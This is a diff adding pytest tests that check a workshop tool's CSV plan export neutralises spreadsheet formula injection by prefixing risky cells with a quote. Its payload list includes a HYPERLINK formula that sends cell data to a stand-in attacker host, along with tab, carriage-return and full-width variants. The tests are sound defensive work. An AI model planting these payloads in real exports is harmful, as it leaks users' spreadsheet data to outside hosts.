@@ -1,0 +1,52 @@
+"""Exports open in spreadsheets and word processors: text people typed must stay text there.
+
+A barrier `=HYPERLINK("http://…"&A1,"x")` pushed to the plan must not become a formula in the CSV
+(OWASP "CSV injection": a cell starting with = + - @, a tab or a carriage return is prefixed with ').
+"""
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from server.reports import export
+
+from .board import Board
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A2)",
+            "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1"]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_csv_cells_never_start_a_formula(day, text):
+    b = Board(day)
+    b.workshop_phase("action_plan")
+    entry = b.org.ok("plan_entry_create", title=text)["entry"]["id"]
+    for field in ("owner", "actions", "timeline"):
+        b.org.ok("plan_entry_update", entry_id=entry, field=field, value=text, version=1)
+    out = export(day.db, day.workshop_id, "csv", "plan", "en")
+    rows = list(csv.reader(io.StringIO(out.data.decode("utf-8-sig"), newline="")))
+    cells = [c for row in rows[1:] for c in row if c]
+    for cell in cells:
+        assert cell[0] not in "=+-@\t\r\uff1d\uff0b\uff0d\uff20" and not cell.lstrip().startswith(("=", "+", "@")), cell
+    # The text itself is kept, after the one quote that makes it text.
+    stored = b.org.snapshot()["plan"][str(entry)]["fields"]["title"]
+    assert "'" + stored in cells
+
+
+def test_ordinary_text_and_numbers_are_unchanged(day):
+    b = Board(day)
+    b.workshop_phase("action_plan")
+    entry = b.org.ok("plan_entry_create", title="Monthly stop data")["entry"]["id"]
+    b.org.ok("plan_entry_update", entry_id=entry, field="timeline", value="3 months", version=1)
+    out = export(day.db, day.workshop_id, "csv", "plan", "en")
+    rows = list(csv.reader(io.StringIO(out.data.decode("utf-8-sig"), newline="")))
+    assert rows[1][0] == "1" and "Monthly stop data" in rows[1] and "3 months" in rows[1]
+
+
+def test_the_csv_answer_has_one_charset(day):
+    out = day.http.get(f"/api/workshops/{day.workshop_id}/export.csv?what=plan",
+                       headers={"Authorization": f"Bearer {day.created['organiser_token']}"})
+    assert out.status_code == 200
+    assert out.headers["Content-Type"] == "text/csv; charset=utf-8"
